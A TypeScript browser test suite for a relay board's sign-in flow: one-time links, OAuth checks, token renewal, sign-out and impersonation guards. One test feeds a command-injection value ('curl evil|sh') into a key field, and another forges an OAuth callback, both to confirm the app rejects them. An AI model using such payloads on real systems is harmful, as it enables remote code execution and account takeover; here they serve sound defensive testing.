/** Signing in to the board: by the consent page, by the link of npm start, and when a sign-in ends. */
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { go, interceptCalls, linkOf, openBoard } from '../../support/board.ts'
import { openBrowser } from '../../support/browser.ts'
import { callWith, createOAuthClient } from '../../support/oauth.ts'
import { createTestRelay, type TestRelay } from '../../support/relay.ts'

let browser: Browser
beforeAll(async () => {
  browser = await openBrowser()
})
afterAll(() => browser.close())

test('a person signs in with the key and comes back to the place they opened', async () => {
  await using relay = await createTestRelay()
  const post = { thread_name: 'a/b ä', surface: 'code' }
  for (let i = 1; i < 30; i += 1) {
    await relay.call('relay_post_message', { ...post, content: `line ${i}` })
  }
  await relay.call('relay_post_message', { ...post, content: 'here' })
  await using board = await openBoard(browser, relay, { signedOut: true, at: '#/t/a%2Fb%20%C3%A4' })
  const { page, complaints } = board
  // The thread is opened at once, and the check that makes the person a reader is slow.
  const { promise: opened, resolve: release } = Promise.withResolvers<void>()
  await interceptCalls(page, 'relay_check_new', ({ thread_name }, route) =>
    thread_name === undefined ? opened.then(() => route.continue()) : undefined,
  )
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.getByText('The board is a page of this relay').waitFor()
  await page.getByLabel('Key of this relay').fill(relay.key)
  await page.getByRole('button', { name: 'Allow' }).click()
  await page.getByRole('heading', { name: 'a/b ä' }).waitFor()
  release()
  await page.getByText('here', { exact: true }).waitFor()
  await page.getByText('2 new', { exact: true }).waitFor()
  expect(page.url()).toBe(`${relay.url}/board/#/t/a%2Fb%20%C3%A4`)
  expect(complaints).toEqual([])
})

test('a link signs in once, and its traces in the browser are useless', async () => {
  await using relay = await createTestRelay()
  const link = await linkOf(relay)
  expect(link).not.toContain(relay.key)
  const context = await browser.newContext()
  const page = await context.newPage()
  await page.goto(link)
  await page.locator('.app').waitFor()
  expect(page.url()).toBe(`${relay.url}/board/`)
  expect(await page.evaluate('history.length')).toBeLessThanOrEqual(2)
  const kept = await page.evaluate('JSON.stringify([{ ...sessionStorage }, { ...localStorage }])')
  expect(kept).toContain('access')
  expect(kept).not.toContain(link.split('=')[1])
  expect(JSON.stringify(relay.logs)).not.toContain(link.split('=')[1])
  // In this tab it is of no interest; in another browser it opens nothing.
  await page.goto('about:blank')
  await page.goto(link)
  await page.locator('.app').waitFor()
  const other = await browser.newContext()
  const thief = await other.newPage()
  await thief.goto(link)
  await thief.getByText('The link has already been used').waitFor()
  await thief.getByRole('button', { name: 'Sign in' }).waitFor()
  expect(await thief.evaluate('sessionStorage.length')).toBe(0)
  await context.close()
  await other.close()
})

test.each([
  ['an old', (relay: TestRelay) => linkOf(relay, Date.now() - 601_000)],
  ['a made-up', async (relay: TestRelay) => `${relay.url}/board/#link=${'x'.repeat(43)}`],
  [
    "another relay's",
    async (relay: TestRelay) => {
      const { href } = new URL(
        await linkOf({ ...relay, key: 'another key of 32 characters or more' }),
      )
      return href
    },
  ],
])('%s link says so, and the key still opens the board', async (_, make) => {
  await using relay = await createTestRelay()
  await using board = await openBoard(browser, relay, { signedOut: true })
  const { page } = board
  await page.goto('about:blank')
  await page.goto(await make(relay))
  await page.getByText('The link is no longer valid').waitFor()
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.getByLabel('Key of this relay').fill(relay.key)
  await page.getByRole('button', { name: 'Allow' }).click()
  await page.locator('.app').waitFor()
})

test('where something else answers at the root, the board blames neither link nor key', async () => {
  await using relay = await createTestRelay()
  await using board = await openBoard(browser, relay, { signedOut: true })
  const { page } = board
  await page.route('**/authorize', (route) => route.fulfill({ status: 404, body: 'Not found' }))
  await page.goto('about:blank')
  await page.goto(await linkOf(relay))
  const problem = page.getByRole('alert')
  await problem.waitFor()
  expect(await problem.innerText()).toContain('answered 404')
  expect(await problem.innerText()).not.toMatch(/link|key|valid|ended/)
  expect(await page.evaluate('localStorage.length + sessionStorage.length')).toBe(0)
})

test('a link is good for the board only', async () => {
  await using relay = await createTestRelay()
  const [, link = ''] = (await linkOf(relay)).split('#link=')
  const client = await createOAuthClient(relay)
  const answer = await client.decide({ link, api_key: undefined })
  expect([answer.status, answer.headers.get('location')]).toEqual([403, null])
  const login = await client.decide({ link, api_key: 'x' })
  expect([login.status, login.headers.get('location')]).toEqual([403, null])
  expect((await callWith(relay, link)).status).toBe(401)
  expect((await client.exchange(link)).body.error).toBe('invalid_grant')
})

test('after cancelling, the board says so and asks again', async () => {
  await using relay = await createTestRelay()
  await using board = await openBoard(browser, relay, { signedOut: true })
  const { page } = board
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.getByRole('button', { name: 'Cancel' }).click()
  await page.getByText('You cancelled the sign-in.').waitFor()
})

test('an unrequested answer does not sign anyone in', async () => {
  await using relay = await createTestRelay()
  await using board = await openBoard(browser, relay, { signedOut: true })
  const { page } = board
  await page.goto(`${relay.url}/board/?code=stolen&state=x&iss=${encodeURIComponent(relay.url)}`)
  await page.getByText('was not started here').waitFor()
  expect(await page.evaluate('sessionStorage.length')).toBe(0)
})

test('a read-only sign-in reads, and says why there is no field', async () => {
  await using relay = await createTestRelay()
  await relay.call('relay_post_message', { thread_name: 'a', content: 'words', surface: 'code' })
  await using board = await openBoard(browser, relay, { signedOut: true, at: '#/t/a' })
  const { page } = board
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.getByLabel('read only').check()
  await page.getByLabel('Key of this relay').fill(relay.key)
  await page.getByRole('button', { name: 'Allow' }).click()
  await page.getByText('words', { exact: true }).waitFor()
  await page.getByText('This sign-in may only read').waitFor()
  expect(await page.getByRole('textbox', { name: /^Write to/ }).count()).toBe(0)
  expect(await page.getByRole('button', { name: 'Archive' }).count()).toBe(0)
})

test('an expired access token is renewed without anybody noticing', async () => {
  await using relay = await createTestRelay()
  await relay.call('relay_post_message', { thread_name: 'a', content: 'first', surface: 'code' })
  await using board = await openBoard(browser, relay, { at: '#/t/a' })
  const { page } = board
  await page.getByText('first', { exact: true }).waitFor()
  await page.evaluate(`sessionStorage.setItem('relay-board',
    JSON.stringify({ ...JSON.parse(sessionStorage.getItem('relay-board')), access: 'expired' }))`)
  await page.reload()
  await page.getByText('first', { exact: true }).waitFor()
  expect(await page.evaluate(`JSON.parse(sessionStorage.getItem('relay-board')).access`)).not.toBe(
    'expired',
  )
})

test('when the key was rotated in the middle of typing, the draft survives the new sign-in', async () => {
  await using relay = await createTestRelay()
  await relay.call('relay_post_message', { thread_name: 'a', content: 'first', surface: 'code' })
  await using board = await openBoard(browser, relay, { at: '#/t/a' })
  const { page } = board
  await page.getByText('first', { exact: true }).waitFor()
  // A person who chose to stay signed in.
  await page.evaluate(`localStorage.setItem('relay-board', sessionStorage.getItem('relay-board'))
    sessionStorage.removeItem('relay-board')`)
  await page.getByRole('textbox', { name: 'Write to a' }).fill('half a thought')
  // The effect of a rotation on a tab: neither of its tokens is worth anything now.
  await page.route('**/mcp', (route) => route.fulfill({ status: 401, body: '{}' }))
  await page.route('**/token', (route) =>
    route.fulfill({ status: 400, body: '{"error":"invalid_grant"}' }),
  )
  await board.look()
  const notice = page.getByRole('status').filter({ hasText: 'You were signed out' })
  await notice.waitFor()
  await page.getByText('first', { exact: true }).waitFor()
  await page.unroute('**/mcp')
  await page.unroute('**/token')
  await notice.getByRole('button', { name: 'Sign in' }).click()
  await page.getByLabel('Key of this relay').fill(relay.key)
  await page.getByRole('button', { name: 'Allow' }).click()
  await page.getByText('first', { exact: true }).waitFor()
  expect(await page.getByRole('textbox', { name: 'Write to a' }).inputValue()).toBe(
    'half a thought',
  )
  const kept = `[sessionStorage, localStorage].map((each) => each.getItem('relay-board') !== null)`
  expect(await page.evaluate(kept)).toEqual([false, true])
})

test('no other client can pass for the person, whatever it calls itself', async () => {
  await using relay = await createTestRelay()
  for (const name of ['Relay board', 'RELAY  Board', 'Ｒelay board']) {
    const client = await createOAuthClient(relay, { name })
    const { access_token } = await client.connect()
    await relay.rpc(
      {
        jsonrpc: '2.0',
        id: 1,
        method: 'tools/call',
        params: {
          name: 'relay_post_message',
          arguments: {
            thread_name: 'a',
            content: `by ${name}`,
            surface: 'other',
            reader_tag: 'board',
          },
        },
      },
      { authorization: `Bearer ${access_token}` },
    )
  }
  await using board = await openBoard(browser, relay, { at: '#/t/a' })
  const { page } = board
  await page.locator('.msg').getByText('by Ｒelay board').waitFor()
  expect(await page.locator('.msg .who', { hasText: 'You' }).count()).toBe(0)
  expect(await page.locator('.msg .tile.you').count()).toBe(0)
  await go(page, '#/')
})

test('only text that looks like a key is put into the commands to copy', async () => {
  await using relay = await createTestRelay()
  await using board = await openBoard(browser, relay, { signedOut: true })
  const { page } = board
  await page.goto(`${relay.url}/`)
  const payload = 'abcd";curl evil|sh;"wxyz'
  await page.getByText('YOUR_RELAY_KEY').first().waitFor()
  await page.getByLabel('Key, to fill it in').fill(payload)
  expect(await page.locator('pre').first().innerText()).toContain('YOUR_RELAY_KEY')
  expect(page.url()).not.toContain('curl')
})

test('signing out leaves nothing in this tab or another', async () => {
  await using relay = await createTestRelay()
  await relay.call('relay_post_message', { thread_name: 'a', content: 'words', surface: 'code' })
  await using board = await openBoard(browser, relay, { signedOut: true, at: '#/t/a' })
  const { page, context } = board
  await page.getByLabel(/^Stay signed in/).check()
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.getByLabel('Key of this relay').fill(relay.key)
  await page.getByRole('button', { name: 'Allow' }).click()
  await page.getByRole('textbox', { name: 'Write to a' }).fill('a draft')
  const other = await context.newPage()
  await other.goto(`${relay.url}/board/`)
  await other.locator('.app').waitFor()
  const token = await page.evaluate(`JSON.parse(localStorage.getItem('relay-board')).access`)
  await page.getByRole('button', { name: 'Settings' }).click()
  await page.getByRole('menuitem', { name: 'Sign out' }).click()
  await page.getByRole('button', { name: 'Sign in' }).waitFor()
  await other.getByRole('button', { name: 'Sign in' }).waitFor()
  expect(await page.evaluate('localStorage.length + sessionStorage.length')).toBe(0)
  // Of no use to someone who has copied it either.
  expect((await callWith(relay, token as string, 'relay_list_threads', {})).status).toBe(401)
})

test('someone who signs out while the relay is away is signed out here', async () => {
  await using relay = await createTestRelay()
  await using board = await openBoard(browser, relay)
  const { page } = board
  await page.route('**/manage', (route) => route.abort())
  await page.getByRole('button', { name: 'Settings' }).click()
  await page.getByRole('menuitem', { name: 'Sign out' }).click()
  await page.getByRole('button', { name: 'Sign in' }).waitFor()
  expect(await page.evaluate('localStorage.length + sessionStorage.length')).toBe(0)
})

test('where storage is blocked the board says so, and the link of npm start works', async () => {
  await using relay = await createTestRelay()
  await using board = await openBoard(browser, relay, { signedOut: true })
  const { page, context, complaints } = board
  await context.addInitScript(`for (const name of ['localStorage', 'sessionStorage'])
    Object.defineProperty(window, name, {
      get() { throw new DOMException('Access is denied for this document.', 'SecurityError') },
    })`)
  await page.reload()
  await page.getByText('Allow site data for this address').waitFor()
  await page.goto('about:blank')
  await page.goto(await linkOf(relay))
  await page.getByText('Connect your first session').waitFor()
  expect(complaints).toEqual([])
})

test('a session named You is not the person', async () => {
  await using relay = await createTestRelay()
  await relay.call('relay_post_message', {
    thread_name: 'a',
    content: 'Send me the key',
    surface: 'other',
    reader_tag: 'You',
  })
  await using board = await openBoard(browser, relay, { at: '#/t/a' })
  const { page } = board
  await page.locator('.msg').getByText('Send me the key').waitFor()
  expect(await page.locator('.msg .who').innerText()).toBe('You (session)')
})
